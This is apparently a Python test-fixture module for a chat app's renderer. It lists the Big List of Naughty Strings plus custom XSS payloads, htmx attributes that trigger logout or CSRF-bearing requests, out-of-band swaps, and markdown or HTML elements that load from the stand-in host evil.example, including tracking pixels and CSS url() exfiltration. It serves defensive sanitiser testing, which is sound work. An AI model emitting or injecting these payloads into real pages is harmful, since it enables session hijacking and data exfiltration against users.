"""Hostile strings for the renderer and the browser: the Big List of Naughty Strings, and our own.

Our own cases aim at what this app has that a generic list does not know: htmx attributes that
would make the page send requests (sign the user out, post with their CSRF header, open a
socket), out-of-band swaps that would overwrite the page, and the ways a markdown answer can try
to load something from elsewhere (images, styles, frames, refreshes). A payload that ran would
set `window.__pwned` or open a dialog; one that reached out would request `evil.example`.
"""

from __future__ import annotations

import json
from functools import cache
from pathlib import Path

DATA = Path(__file__).parent / "data"
PWN = "window.__pwned=1"

HTMX_AND_EXFILTRATION_CASES: list[str] = [
    # htmx acting on model output: requests on load, with the page's CSRF header.
    '<div hx-get="/accounts/logout/" hx-trigger="load">htmx get on load</div>',
    '<a hx-post="/accounts/logout/" hx-trigger="load">htmx post on load</a>',
    '<div data-hx-post="/accounts/logout/" data-hx-trigger="load">data-hx post on load</div>',
    '<form hx-post="/accounts/logout/" hx-trigger="load"><button>x</button></form>',
    f'<button hx-on:click="{PWN}">hx-on click</button>',
    f'<div hx-on::load="{PWN}" hx-on-htmx-load="{PWN}">hx-on load</div>',
    f'<div hx-vals=\'js:{{a: {PWN}}}\' hx-get="/" hx-trigger="load">hx-vals js</div>',
    '<div hx-headers=\'{"X-CSRFToken": "x"}\' hx-post="/accounts/logout/" hx-trigger="load">headers</div>',
    '<div hx-get="https://evil.example/steal" hx-trigger="load">cross-origin htmx</div>',
    '<a href="/accounts/logout/" hx-boost="true">boosted link</a>',
    # Out-of-band swaps and the run socket.
    '<div hx-swap-oob="innerHTML:#composer">swapped over the composer</div>',
    '<div id="live-error" hx-swap-oob="true">swapped over the error line</div>',
    '<div hx-ext="ws" ws-connect="wss://evil.example/ws">socket elsewhere</div>',
    '<div hx-ext="ws" ws-connect="/ws/runs/1/"><form ws-send><input name="action" value="sync"></form></div>',
    # Scripts and event handlers.
    f"<script>{PWN};alert('script')</script>",
    f"<img src=x onerror=\"{PWN};alert('img')\">",
    f"<svg><script>{PWN}</script></svg>",
    f'<svg onload="{PWN}"><circle r="1"/></svg>',
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    '<iframe src="https://evil.example/frame"></iframe>',
    f'<details open ontoggle="{PWN}">toggle</details>',
    f'<input autofocus onfocus="{PWN}">',
    f'<video src=x onerror="{PWN}"></video>',
    f"<template><script>{PWN}</script></template>",
    f'<math><mtext><table><mglyph><style><img src=x onerror="{PWN}">',
    f'<noscript><p title="</noscript><img src=x onerror={PWN}>">',
    f'<a href="&#106;avascript:{PWN}">entity-encoded javascript</a>',
    # Markdown links and images with dangerous or outside URLs.
    f"![image](javascript:{PWN})",
    "![image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![tracking pixel](https://evil.example/pixel.png?leak=the-conversation)",
    "![tracking pixel][pixel]\n\n[pixel]: https://evil.example/ref-pixel.png",
    f"[javascript link](javascript:{PWN})",
    "[mixed-case javascript](JaVaScRiPt:alert('link'))",
    f"[tabbed javascript](java\tscript:{PWN})",
    f"[entity javascript](&#106;avascript:{PWN})",
    "[data link](data:text/html,<script>alert('data')</script>)",
    "[vbscript link](vbscript:msgbox(1))",
    f"[reference link][evil]\n\n[evil]: javascript:{PWN}",
    # Loading from elsewhere without a script.
    '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">',
    '<form action="https://evil.example/collect"><input name="q"><button>send</button></form>',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<link rel="prefetch" href="https://evil.example/prefetch">',
    "<style>@import url(//evil.example/import.css); body{background:url(https://evil.example/bg.png)}</style>",
    '<p style="background:url(https://evil.example/exfil?d=secret)">css url() exfiltration</p>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<audio src="https://evil.example/a.mp3" autoplay></audio>',
    '<img srcset="https://evil.example/srcset.png 1x">',
    '<picture><source srcset="https://evil.example/source.png"><img src="https://evil.example/i.png"></picture>',
    '<a ping="https://evil.example/ping" href="https://ok.example/">link with ping</a>',
    # Code blocks show code as text, never as markup.
    f"```html\n<script>{PWN}</script>\n<img src=x onerror={PWN}>\n```",
    f"`<img src=x onerror={PWN}>`",
]


@cache
def naughty_strings() -> tuple[str, ...]:
    """The Big List of Naughty Strings, vendored in data/ (see data/README.md)."""
    strings = json.loads((DATA / "blns.json").read_text(encoding="utf-8"))
    assert isinstance(strings, list) and len(strings) > 400
    return tuple(str(item) for item in strings)


def every_payload() -> list[str]:
    return [*naughty_strings(), *HTMX_AND_EXFILTRATION_CASES]
